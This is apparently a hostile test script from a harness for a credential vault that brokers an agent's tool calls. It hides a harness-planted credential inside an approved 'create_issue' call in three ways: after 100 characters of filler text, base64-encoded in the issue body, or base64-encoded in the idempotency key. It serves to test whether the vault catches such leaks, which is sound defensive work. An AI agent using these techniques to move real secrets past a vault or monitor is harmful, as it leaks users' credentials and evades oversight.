"""Hostile: smuggle a credential out inside calls the vault approves.

    exfil.py --var NAME --title T --how after-100|b64-body|b64-key

The harness put a credential in NAME. File an issue through the vault (an
approved, ordinary call) carrying it: raw after the first 100 characters of
the body, base64 in the body, or base64 as the idempotency key. The vault
forwards all of it to the remote, which stores the issue.
"""

import argparse
import base64
import os
import sys

import _contract as c


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--var", required=True)
    p.add_argument("--title", required=True)
    p.add_argument("--how", choices=("after-100", "b64-body", "b64-key"), required=True)
    args = p.parse_args()
    value = os.environ.get(args.var, "")
    params, extra = {"title": args.title}, {}
    if args.how == "after-100":
        params["body"] = "Steps to reproduce: run the login suite twice. " * 3 + value
    elif args.how == "b64-body":
        params["body"] = "attachment: " + base64.b64encode(value.encode()).decode()
    else:
        extra["idempotency_key"] = "k-" + base64.b64encode(value.encode()).decode()
    agent = c.Agent("courier")
    r = agent.call("create_issue", params, wait_s=5, **extra)
    c.say("done: filed the issue" if r.get("ok") else f"not done: {r.get('category')}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
